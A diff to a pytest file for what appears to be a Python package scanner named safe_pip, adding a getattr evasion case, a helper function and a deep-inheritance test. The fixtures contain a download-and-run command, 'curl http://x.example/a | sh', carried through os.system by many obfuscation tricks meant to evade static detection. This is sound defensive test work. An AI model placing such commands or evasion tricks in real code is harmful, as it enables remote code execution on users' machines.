@@ -11,6 +11,7 @@ import pytest
 from safe_pip.extractors import observe
 from tests.sources import distribution_of
 
+DOWNLOADS_AND_RUNS = {"shell_download", "proc_spawn_unasked"}
 COMMAND = "curl http://x.example/a | sh"
 NUMBERS = list(COMMAND.encode())
 QUOTED = "".join(f"={number:02X}" for number in NUMBERS)
@@ -18,6 +19,7 @@ RUN = f"__import__('os').system('{COMMAND}')"
 
 CARRIED = {
     "property": f"class A:\n @property\n def x(self): return '{COMMAND}'\nos.system(A().x)",
+    "property by getattr": f"class A:\n @property\n def x(self): return '{COMMAND}'\nos.system(getattr(A(), 'x'))",
     "function of a property": f"class A:\n @property\n def x(self): return os.system\nA().x('{COMMAND}')",
     "class made by a call": f"type('X', (), {{'a': os.system}}).a('{COMMAND}')",
     "next": f"next(iter([os.system]))('{COMMAND}')",
@@ -68,10 +70,13 @@ CARRIED = {
 }  # fmt: skip
 
 
+def found_in(sources: dict[str, str]) -> set[str]:
+    return {item.feature for item in observe(distribution_of(sources))}
+
+
 @pytest.mark.parametrize("way", CARRIED)
 def test_command_is_followed(way: str) -> None:
-    found = observe(distribution_of({"pkg/__init__.py": f"import os\n{CARRIED[way]}\n"}))
-    assert {"shell_download", "proc_spawn_unasked"} <= {item.feature for item in found}
+    assert found_in({"pkg/__init__.py": f"import os\n{CARRIED[way]}\n"}) >= DOWNLOADS_AND_RUNS
 
 
 def test_variable_that_is_set_keeps_what_it_was() -> None:
@@ -95,8 +100,7 @@ def test_module_that_is_run_by_name_is_read() -> None:
         "pkg/__init__.py": "import runpy\nrunpy.run_module('pkg.other')\n",
         "pkg/other.py": f"import os\nos.system('{COMMAND}')\n",
     }
-    found = observe(distribution_of(sources))
-    assert {"shell_download", "proc_spawn_unasked"} <= {item.feature for item in found}
+    assert found_in(sources) >= DOWNLOADS_AND_RUNS
 
 
 FILES = {
@@ -117,8 +121,7 @@ def test_data_file_that_is_executed_is_read(way: str) -> None:
         "pkg/d.txt": f"import os\nos.system('{COMMAND}')\n",
         "pkg/d.json": json.dumps({"c": RUN}),
     }
-    found = observe(distribution_of(sources))
-    assert {"shell_download", "proc_spawn_unasked"} <= {item.feature for item in found}
+    assert found_in(sources) >= DOWNLOADS_AND_RUNS
 
 
 IMPORTS = {
@@ -135,8 +138,19 @@ def test_function_of_another_module_is_followed(way: str) -> None:
         "pkg/x.py": f"import os\ndef run():\n    os.system('{COMMAND}')\n",
         "pkg/y.py": "import subprocess\ndef go(command):\n    subprocess.run(command)\n",
     }
-    found = observe(distribution_of(sources))
-    assert {"shell_download", "proc_spawn_unasked"} <= {item.feature for item in found}
+    assert found_in(sources) >= DOWNLOADS_AND_RUNS
+
+
+def test_ladder_of_classes_is_searched_once() -> None:
+    lines = [
+        "import os",
+        "class A0:",
+        " def __add__(self, o): os.system('x')",
+        "class B0(A0): pass",
+    ]
+    for n in range(1, 60):
+        lines += [f"class {letter}{n}(A{n - 1}, B{n - 1}): pass" for letter in "AB"]
+    assert "proc_spawn_unasked" in found_in({"pkg/__init__.py": "\n".join([*lines, "A59()", ""])})
 
 
 @pytest.mark.parametrize(
